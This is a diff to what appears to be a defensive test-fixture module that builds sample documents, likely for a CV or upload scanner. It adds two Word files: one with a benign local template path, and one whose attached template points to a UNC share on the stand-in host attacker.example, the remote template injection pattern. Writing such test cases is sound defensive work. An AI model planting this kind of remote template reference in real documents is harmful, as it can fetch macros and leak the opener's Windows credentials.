@@ -403,3 +403,26 @@ def pdf_link_to(uri: bytes) -> bytes:
             b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(" + uri + b")>>>>",
         )
     )
+
+
+def docx_from_an_office_template() -> bytes:
+    """What Word writes for a CV made from one of its templates: the template's path on the
+    author's disk, an external target that reaches nothing on the recruiter's machine."""
+    return _docx_with(
+        (
+            "word/_rels/settings.xml.rels",
+            _relationships(
+                "attachedTemplate",
+                "file:///C:\\Users\\camille\\AppData\\Roaming\\Microsoft\\Templates\\TF16392740.dotx",
+            ),
+        )
+    )
+
+
+def docx_with_template_on_a_share() -> bytes:
+    return _docx_with(
+        (
+            "word/_rels/settings.xml.rels",
+            _relationships("attachedTemplate", "\\\\attacker.example\\share\\t.dotm"),
+        )
+    )
